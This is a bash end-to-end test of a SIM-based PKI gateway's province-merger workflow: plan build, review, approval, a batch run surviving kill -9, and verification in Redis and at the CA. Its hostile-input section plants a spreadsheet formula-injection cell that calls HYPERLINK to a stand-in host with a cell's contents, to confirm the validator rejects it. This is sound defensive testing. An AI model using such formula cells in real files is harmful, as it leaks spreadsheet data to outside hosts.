#!/usr/bin/env bash
# The merger review end to end (issue 14, gateway/merge/gw_plan.h): a province-sized registry
# (tests/gateway/merge_fixture: 10,000 certificates, three districts and 30 communes merged), the
# reorganisation and the staff list as an operator has them, built into a plan through
# simpki-admin, checked row by row against what the rules must give, reviewed (overrides, diff),
# approved, and run as a batch through the real lifecycle engine, the carrier simulator's SIMs and
# a CMP CA that really issues and revokes (simpki-sim-ca), with a kill -9 mid-batch.  The end
# state is checked in Redis and at the CA (its OCSP responder, `openssl ocsp`), not in logs.
. "$(dirname "$0")/lib.sh"
: "${MERGE_FIXTURE:?}" "${SIMPKI_SIM_CA:?}"

N=${MERGE_CERTS:-10000}
FX=$T/fx
start_redis
make_demo
start_ocsp
"$MERGE_FIXTURE" "$FX" "$T/demo/pki" "$N" 14 >"$T/fixture.log" 2>&1
check "the fixture: $N certificates, the files and the expected plan" test -s "$FX/expected.tsv"
# The numbers whose SIM signs a new certificate request are served by the simulator too.
# One official cancels at the PIN prompt: that row's request fails, and must block no other.
CANCEL=$(awk -F'\t' '$5 == "change" && $6 == "P1" {print $2; exit}' "$FX/expected.tsv")
check "a P1 row whose official will cancel" test -n "$CANCEL"
SIM_SCEN_EDIT=".subscribers += \$fx[0] | (.subscribers[] | select(.msisdn == \"$CANCEL\") | .behaviour) = \"cancel\"" \
  SIM_SCEN_ARGS="--slurpfile fx $FX/sim-subscribers.json" start_sim
ca_start
OPS_TOKEN="ops-$(head -c 12 /dev/urandom | od -An -tx1 | tr -d ' \n')"
ops_hash=$(printf %s "$OPS_TOKEN" | sha256sum | cut -d' ' -f1)
CONFIG_EDIT='.api_keys += [{name: "ops-bn", sha256: "'"$ops_hash"'", roles: ["operator", "enrol"]}]
  | .ca = {key_alg: "ecp256", sim_timeout_s: 30, tick_ms: 200, lease_s: 12, max_attempts: 3,
           cmp: {server: "127.0.0.1", port: '"$CMP_PORT"', path: "'"$CMP_PATH"'", timeout_s: 10,
                 pbm_ref: "'"$CMP_REF"'", pbm_secret: "'"$CMP_SECRET"'"}}
  | .merge = {tick_ms: 200, per_tick: 25, max_in_flight: 40, lease_s: 5}'
write_config
import_registry
"$SIMPKI_ADMIN" -c "$T/simpki.json" import "$FX/registry.csv" >"$T/import-fx.log" 2>&1
check "the province's registry imported" grep -q "imported" "$T/import-fx.log"
start_gw

export SIMPKI_API_KEY=$OPS_TOKEN
ADMIN=("$SIMPKI_ADMIN" -c "$T/simpki.json")
jqe() { jq -e "$@" >/dev/null; }
records() { python3 -c 'import csv, sys; print(len(list(csv.reader(open(sys.argv[1], encoding="utf-8-sig")))))' "$1"; }
ops() { # METHOD PATH [BODY]: the API as the operator
  local saved=$TOKEN; TOKEN=$OPS_TOKEN; api "$@"; TOKEN=$saved
}

# ---- hostile inputs: refused whole, with the line, nothing stored ---------------------------
plans_before=$(redis-cli -p "$REDIS_PORT" ZCARD 'spk:{enr}:plans')
python3 - "$FX/staff.csv" "$T/staff-hostile.csv" <<'EOF'
import sys
src, dst = sys.argv[1], sys.argv[2]
lines = open(src, encoding="utf-8-sig").read().splitlines()
head, rows = lines[0], lines[1:]
out = [head]
for i in range(100000):
    out.append(rows[i % len(rows)])
# Early, so that they come before the duplicates (the first 200 findings are listed); the quote never
# closed last, since it runs on to the next quote in the file as CSV says.
out[40] = '"=HYPERLINK(""http://x.example/?""&A1)"' + out[40][out[40].index(","):]  # a formula, as a spreadsheet quotes it
out[60] = out[60] + ',"broken'                                 # a quote never closed
open(dst, "w", encoding="utf-8-sig", newline="\r\n").write("\n".join(out) + "\n")
EOF
body=$(jq -n --rawfile r "$FX/reorg.csv" --rawfile s "$T/staff-hostile.csv" \
  '{name: "hostile", deadline: "2025-08-15", reorg: $r, staff: $s}')
printf '%s' "$body" > "$T/hostile.json"
ops POST /v1/plans @"$T/hostile.json" >/dev/null
cp "$T/body" "$T/hostile-answer.json"
jq -c '.findings[] | select(.file == "staff" and .code != "DUPLICATE") | {line, column, code}' "$T/hostile-answer.json" | head -5
check "100,000 staff rows with a broken line, a formula cell and duplicates: 400 INVALID_INPUT" \
  jqe '.error == "INVALID_INPUT"' "$T/body"
check "... the formula cell named by its line (41), as FORMULA" \
  jqe '[.findings[] | select(.code == "FORMULA" and .file == "staff" and .line == 41)] | length == 1' "$T/hostile-answer.json"
check "... the broken line named by its line" \
  jqe '[.findings[] | select(.file == "staff" and .line == 61 and (.code == "FRAMING"))] | length == 1' "$T/hostile-answer.json"
check "... duplicates reported as DUPLICATE" jqe '[.findings[] | select(.code == "DUPLICATE")] | length >= 1' "$T/hostile-answer.json"
check "... a finding never repeats a cell (no CCCD digits in any message)" \
  bash -c "! jq -r '.findings[].message' '$T/hostile-answer.json' | grep -Eq '[0-9]{12}'"
check "... nothing stored" test "$(redis-cli -p "$REDIS_PORT" ZCARD 'spk:{enr}:plans')" = "$plans_before"
# A unit mapped to two new units: taken, flagged (SPLIT), its organisation certificate to decide (D2).
check "the shipped 2025 province reorganisation is read without an error" \
  bash -c "jq -n --rawfile r '$SRC/deploy/data/reorg-2025-provinces.csv' --rawfile s '$FX/staff.csv' \
     '{name: \"2025\", deadline: \"2025-08-15\", reorg: \$r, staff: \$s}' |
     curl -s -X POST -H 'Authorization: Bearer $OPS_TOKEN' -H 'Content-Type: application/json' --data-binary @- \
       http://127.0.0.1:$API_PORT/v1/plans | jq -e '.state == \"building\"' >/dev/null"

# ---- build through the CLI ------------------------------------------------------------------
"${ADMIN[@]}" plan build --reorg "$FX/reorg.csv" --staff "$FX/staff.csv" --name "Sắp xếp ĐVHC tỉnh (e2e)" \
  --deadline 2025-08-15 --by "Nguyễn Văn Kiểm" >"$T/build.out" 2>"$T/build.err"
PLAN=$(grep -Eo 'p[0-9a-f]{12}' "$T/build.out" | head -1)
check "simpki-admin plan build: a plan id" test -n "$PLAN"
ops GET "/v1/plans/$PLAN" >"$T/plan.json"
check "the plan is under review, version 1" jqe '.state == "review" and .version == 1' "$T/plan.json"
rows=$(jq -r .summary.rows "$T/plan.json")
for off in $(seq 0 1000 "$rows"); do
  ops GET "/v1/plans/$PLAN/rows?limit=1000&offset=$off" | jq '.rows' >"$T/rows-$off.json"
done
jq -s 'add' "$T"/rows-*.json >"$T/all-rows.json"
check "every row fetched" jqe --argjson n "$rows" 'length == $n' "$T/all-rows.json"

# Row by row: the plan against the fixture's expected.tsv (the rules as gw_merge_rules.h words them).
python3 - "$T/all-rows.json" "$FX/expected.tsv" >"$T/rowcheck.out" 2>&1 <<'EOF' || true
import csv, json, sys
rows = json.load(open(sys.argv[1]))
exp = list(csv.DictReader(open(sys.argv[2], encoding="utf-8"), delimiter="\t"))
by_key = {}
for r in rows:
    key = r["serial"] if r.get("serial") else "staff:%d" % r["staff_line"]
    if key in by_key:
        print("row %d: key %s twice" % (r["no"], key))
    by_key[key] = r
bad = 0
for e in exp:
    r = by_key.pop(e["key"], None)
    if r is None:
        print("missing row for %s (%s %s)" % (e["key"], e["action"], e["rule"])); bad += 1; continue
    want = (e["action"], e["rule"], e.get("reason_code") or "", e.get("handover_to") or "")
    got = (r["action"], r["rule"], str(r.get("reason_code") or ""), r.get("handover_to") or "")
    if e["action"] == "decide":
        # A row to decide keeps its underlying rule's reason and receiving body (gw_merge_rules.h D5, D6), for an
        # override to file; what is asserted is that it waits for a decision, by which rule.
        want, got = want[:2], got[:2]
    if want != got:
        print("row %d (%s): want %s, got %s" % (r["no"], e["key"], want, got)); bad += 1
for k, r in by_key.items():
    print("unexpected row %d (%s): %s %s" % (r["no"], k, r["action"], r["rule"])); bad += 1
print("%d expected rows, %d plan rows, %d wrong" % (len(exp), len(rows), bad))
sys.exit(1 if bad else 0)
EOF
check "every row's action, rule, reason and receiving body as the rules say ($(tail -1 "$T/rowcheck.out"))" \
  grep -q ' 0 wrong$' "$T/rowcheck.out"
head -20 "$T/rowcheck.out"
for r in O1 O2 O3 O4 P1 P2 P3 P4 P5 D1 D2 D3 D4 D5 D6; do
  check "rule $r chose at least two rows" jqe --arg r "$r" '[.[] | select(.rule == $r)] | length >= 2' "$T/all-rows.json"
done

# ---- review: approval refused while rows need a decision; overrides; diff -------------------
ops POST "/v1/plans/$PLAN/approve" '{"version": 1, "by": "Trần Thị Duyệt"}' >/dev/null
check "approve with rows to decide: 409 DECISIONS_PENDING" jqe '.error == "DECISIONS_PENDING" and .count > 0' "$T/body"
first_decide=$(jq -r '[.[] | select(.action == "decide")][0].no' "$T/all-rows.json")
ops POST "/v1/plans/$PLAN/rows/$first_decide" '{"action": "keep", "reason": "x", "version": 7}' >/dev/null
check "an override against another version: 409 VERSION_CONFLICT" jqe '.error == "VERSION_CONFLICT"' "$T/body"
v=1
while IFS=$'\t' read -r key action reason; do
  [ "$key" = key ] && continue
  no=$(jq -r --arg k "$key" '[.[] | select((.serial // "") == $k or ("staff:" + (.staff_line|tostring)) == $k)][0].no' "$T/all-rows.json")
  ops POST "/v1/plans/$PLAN/rows/$no" "$(jq -n --arg a "$action" --arg r "$reason" --argjson v "$v" \
    '{action: $a, reason: $r, by: "Trần Thị Duyệt", version: $v}')" >/dev/null
  [ "$(code)" = 200 ] && v=$((v + 1)) || bad "override of row $no ($key): $(code) $(cat "$T/body")"
done <"$FX/overrides.tsv"
ops GET "/v1/plans/$PLAN/diff?from=1&to=$v" >"$T/diff.json"
check "diff 1..$v names every overridden row once" \
  bash -c "[ \"\$(jq '.changes | length' '$T/diff.json')\" = \"\$(($(wc -l <"$FX/overrides.tsv") - 1))\" ]"
ops GET "/v1/plans/$PLAN/rows?action=decide" >/dev/null
check "no row left to decide" jqe '.matched == 0' "$T/body"
ops GET "/v1/plans/$PLAN" >/dev/null
check "... and the plan's final counts say so, every row counted once" \
  jqe '.summary.final_by_action.decide == 0 and ([.summary.final_by_action[]] | add) == .summary.rows' "$T/body"

# ---- approve and run, kill -9 mid-batch -----------------------------------------------------
"${ADMIN[@]}" plan approve "$PLAN" --by "Trần Thị Duyệt" >"$T/approve.out" 2>&1
ops GET "/v1/plans/$PLAN" >"$T/plan.json"
check "approved (simpki-admin plan approve)" jqe '.state == "approved" or .state == "running"' "$T/plan.json"
to_file=$(jq -r .progress.to_file "$T/plan.json")
filed_at_least() { ops GET "/v1/plans/$PLAN" >/dev/null; jq -e --argjson n "$1" '.progress.filed >= $n' "$T/body" >/dev/null; }
wait_for 120 filed_at_least 30
stop_gw -KILL
check "killed -9 mid-batch (some filed, not all)" bash -c "[ \$(redis-cli -p $REDIS_PORT --raw GET 'spk:{enr}:plan:$PLAN' | jq .progress.filed) -lt $to_file ]"
start_gw
# Devices come back as the revocations finish: close every handover record once filed.
plan_done() { ops GET "/v1/plans/$PLAN" >/dev/null; jq -e '.state == "finished"' "$T/body" >/dev/null; }
end=$(( $(date +%s) + 400 ))
while ! plan_done && [ "$(date +%s)" -lt "$end" ]; do
  for hid in $(jq -r '.handovers[]?.request_id' "$T/body"); do
    st=$(ops GET "/v1/requests/$hid" | jq -r '.state // empty')
    [ "$st" = submitted ] && ops POST "/v1/requests/$hid/transitions" '{"to": "done", "by": "Văn thư", "note": "đã nhận thiết bị"}' >/dev/null
  done
  sleep 1
done
check "the plan finished after the restart" plan_done
"${ADMIN[@]}" plan follow "$PLAN" >"$T/follow.out" 2>&1 || true
ops GET "/v1/plans/$PLAN/report" >"$T/report.json"
check "report: the cancelled row failed, and it alone; every other request done" \
  jqe --arg m "$CANCEL" '[.rows[] | select(.request_id != null and .state != "done") | [.msisdn, .state]] == [[$m, "failed"]]' \
  "$T/report.json"
check "... counted in the plan's progress" jqe '.progress.failed == 1 and .progress.done == .progress.filed - 1' \
  <(ops GET "/v1/plans/$PLAN")

# No request twice, none lost: exactly the plan's requests were filed, each once.
python3 - "$T/report.json" <<'EOF' >"$T/dups.out" || true
import json, sys
r = json.load(open(sys.argv[1]))
ids = [x["request_id"] for x in r["rows"] if x.get("request_id")] + [h["request_id"] for h in r["handovers"]]
print(len(ids), len(set(ids)))
EOF
reqs_total=$(redis-cli -p "$REDIS_PORT" ZCARD 'spk:{enr}:reqs')
check "every request filed once: $(cat "$T/dups.out") ids, $reqs_total requests in Redis" \
  bash -c "read a b <'$T/dups.out'; [ \"\$a\" = \"\$b\" ] && [ \"\$a\" = '$reqs_total' ]"

# The registry in the state expected, number by number.
python3 - "$FX/expected-final.tsv" "$REDIS_PORT" >"$T/final.out" 2>&1 <<'EOF' || true
import csv, subprocess, sys
port = sys.argv[2]
def shard(m):
    h = 0x811c9dc5
    for b in m.encode(): h = ((h ^ b) * 0x01000193) & 0xffffffff
    return h % 16
rows = list(csv.DictReader(open(sys.argv[1], encoding="utf-8"), delimiter="\t"))
# One redis-cli for every number: its commands on stdin, one answer a line.
cmds = "".join("HGET spk:{%d}:sub:%s status\n" % (shard(e["msisdn"]), e["msisdn"]) for e in rows)
got = subprocess.run(["redis-cli", "-p", port, "--raw"], input=cmds, capture_output=True, text=True).stdout.split("\n")
bad = 0
for e, st in zip(rows, got):
    if st != e["status"]:
        print("%s: status %s, want %s" % (e["msisdn"][:4] + "****" + e["msisdn"][-3:], st, e["status"])); bad += 1
if len(got) < len(rows):
    print("redis-cli answered %d of %d" % (len(got), len(rows))); bad += 1
print("%d numbers, %d wrong" % (len(rows), bad))
sys.exit(1 if bad else 0)
EOF
check "the registry as expected ($(tail -1 "$T/final.out"))" grep -q ' 0 wrong$' "$T/final.out"
# Every certificate the plan revoked, revoked at the CA (its OCSP responder, asked by openssl).
revoked_ok=0 revoked_bad=0
for s in $(jq -r '.rows[] | select(.final_action == "revoke") | .serial' "$T/report.json"); do
  if ca_revoked "$s"; then revoked_ok=$((revoked_ok + 1)); else revoked_bad=$((revoked_bad + 1)); fi
done
check "the CA reports every revoked certificate revoked ($revoked_ok, $revoked_bad not)" \
  test "$revoked_bad" = 0 -a "$revoked_ok" -gt 0

# ---- paper and deadline --------------------------------------------------------------------
unit=$(jq -r '[.rows[] | select(.final_action == "revoke")][0].unit' "$T/report.json")
ops GET "/v1/plans/$PLAN/bundle?unit=$(jq -rn --arg u "$unit" '$u|@uri')" >"$T/bundle.html"
check "a unit's bundle: its Mẫu 09 and Mẫu 14, no external resource" \
  bash -c "grep -q 'THU HỒI' '$T/bundle.html' && grep -q 'BIÊN BẢN BÀN GIAO' '$T/bundle.html' && ! grep -Eq '(src|href)=\"https?:' '$T/bundle.html'"
ops GET "/v1/plans/$PLAN/open?format=csv" >"$T/open.csv"
check "open-by-unit CSV once finished: the failed row alone, and the header" test "$(records "$T/open.csv")" -eq 2
ops GET "/v1/plans/$PLAN/export?format=csv" >"$T/export.csv"
check "the CA's export: one record per request, and the header" \
  test "$(records "$T/export.csv")" -eq "$(( $(cut -d' ' -f1 "$T/dups.out") + 1 ))"

finish
